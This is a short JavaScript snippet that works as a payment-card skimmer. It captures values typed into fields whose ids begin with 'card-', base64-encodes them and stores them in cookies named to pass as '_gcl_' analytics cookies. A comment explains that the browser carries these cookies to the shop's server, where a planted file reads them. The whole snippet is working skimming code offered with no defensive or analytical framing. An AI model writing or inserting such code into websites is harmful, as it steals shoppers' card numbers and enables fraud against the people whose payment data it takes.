(function () {
  // Stash the card in a first-party cookie: the browser itself carries it
  // to the shop's server on every later request, where a planted file reads
  // it.
  document.addEventListener('change', function (e) {
    var t = e.target;
    if (!t || !t.id || t.id.indexOf('card-') !== 0 || !t.value) {
      return;
    }
    document.cookie = '_gcl_' + t.id.replace('card-', '') + '=' + btoa(t.value) + '; path=/';
  }, true);
})();
